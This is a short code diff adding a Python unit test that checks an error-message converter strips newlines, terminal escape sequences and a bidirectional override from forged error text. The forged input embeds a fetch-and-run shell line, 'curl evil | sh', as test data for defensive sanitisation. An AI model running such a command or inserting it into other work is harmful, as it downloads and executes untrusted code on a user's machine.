@@ -40,3 +40,12 @@ def test_a_problem_of_others_takes_no_more_room_than_ones_own() -> None:
     back = to_problem(from_problem(told))
     assert back.code == "UNAVAILABLE"
     assert back.ByteSize() < 8192
+
+
+def test_a_problem_of_others_is_one_line_that_steers_no_terminal() -> None:
+    forged = "bad\n$ curl evil | sh\x1b[2J\x9b31m\u202ebidi"
+    back = from_problem(
+        membership_pb2.Problem(code="UNAVAILABLE", reason=forged, message=forged, hint=forged)
+    )
+    for said in (back.reason, back.message, back.hint):
+        assert said == "bad $ curl evil | sh [2J 31m bidi"
